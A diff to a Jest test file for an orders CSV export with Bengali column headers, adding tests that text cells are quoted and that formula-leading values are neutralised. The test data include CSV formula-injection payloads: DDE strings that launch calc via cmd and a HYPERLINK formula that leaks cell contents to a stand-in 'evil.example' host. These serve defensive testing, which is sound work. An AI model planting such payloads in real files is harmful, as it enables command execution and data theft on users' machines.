@@ -23,7 +23,7 @@ describe('the orders CSV', () => {
     const header = ordersCsvHeader();
     expect(header.startsWith(CSV_BYTE_ORDER_MARK)).toBe(true);
     expect(header.endsWith('\r\n')).toBe(true);
-    expect(header).toContain('অর্ডার নম্বর,তারিখ ও সময় (ঢাকা),স্ট্যাটাস,গ্রাহকের নাম');
+    expect(header).toContain('"অর্ডার নম্বর","তারিখ ও সময় (ঢাকা)","স্ট্যাটাস","গ্রাহকের নাম"');
   });
 
   it('writes one row per order that a CSV reader gives back field for field, Bengali and commas included', () => {
@@ -71,6 +71,92 @@ describe('the orders CSV', () => {
     }) as string[][];
     expect(rows[0][3]).toBe('\'=HYPERLINK("http://evil")');
   });
+
+  it('quotes every text cell and writes numbers bare, so numbers stay numbers', () => {
+    const row = ordersCsvRows([
+      order('order-0000AAAA', { quantity: 3, product_price: 250.5, total_amount: 751.5 }),
+    ]);
+    expect(row).toBe(
+      [
+        '"0000AAAA"',
+        '"2026-11-21 00:05"',
+        '"নিশ্চিত"',
+        '"রহিম উদ্দিন"',
+        '"01712345678"',
+        '"r@example.com"',
+        '"জিনজিরা, কেরানীগঞ্জ"',
+        '"আমের আচার"',
+        '3',
+        '250.5',
+        '751.5',
+        '"ক্যাশ অন ডেলিভারি"',
+        '"order-0000AAAA"',
+      ].join(',') + '\r\n',
+    );
+  });
+
+  it.each([
+    // The issue's: a spreadsheet splitting on ';' would read '=cmd|…' as a cell of its own, unquoted.
+    ["x;=cmd|' /C calc'!A0", "x;=cmd|' /C calc'!A0"],
+    [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"বিস্তারিত")',
+      '\'=HYPERLINK("http://evil.example/?leak="&A1,"বিস্তারিত")',
+    ],
+    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
+    ['+8801712345678', "'+8801712345678"],
+    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
+    ["@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"],
+    ['＝1+1', "'＝1+1"],
+    // A leading tab, CR or spaces are dropped when the order is read for display; the '=' is still caught.
+    ['\t=1+1', "'=1+1"],
+    ['\r=1+1', "'=1+1"],
+    ['  =1+1', "'=1+1"],
+    ['রহিম = ভালো', 'রহিম = ভালো'],
+  ])('writes %j quoted and inert', (name, cell) => {
+    const text = ordersCsvRows([order('x', { customer_name: name })]);
+    expect((parse(text) as string[][])[0][3]).toBe(cell);
+  });
+
+  /**
+   * How a spreadsheet set to another separator reads the file: a cell that starts with '"' runs to its closing
+   * quote (a doubled quote is one), and anything after it up to the separator joins the same cell.
+   */
+  function cellsSplitOn(line: string, separator: string): string[] {
+    const cells: string[] = [];
+    let cell = '';
+    let quoted = false;
+    for (let index = 0; index < line.length; index += 1) {
+      const char = line[index];
+      if (quoted) {
+        if (char === '"' && line[index + 1] === '"') {
+          cell += '"';
+          index += 1;
+        } else if (char === '"') quoted = false;
+        else cell += char;
+      } else if (char === '"') quoted = true;
+      else if (char === separator) {
+        cells.push(cell);
+        cell = '';
+      } else cell += char;
+    }
+    return [...cells, cell];
+  }
+
+  it.each([';', ',', '\t'])(
+    'starts no cell with a formula in a spreadsheet that splits on %j',
+    (separator) => {
+      const line = ordersCsvRows([
+        order('x', {
+          customer_name: "x;=cmd|' /C calc'!A0",
+          customer_address: 'রোড ৩,=HYPERLINK("http://evil.example")\t=1+1',
+          product_name: '@SUM(1+9)',
+        }),
+      ]).trimEnd();
+      const cells = cellsSplitOn(line, separator);
+      expect(cells.length).toBeGreaterThan(0);
+      for (const cell of cells) expect(cell).not.toMatch(/^\s*[=+\-@]/);
+    },
+  );
 
   it('names the file for its range and status', () => {
     expect(ordersCsvFileName('2026-11-01', '2026-11-30', 'all')).toBe('orders-2026-11-01-to-2026-11-30.csv');
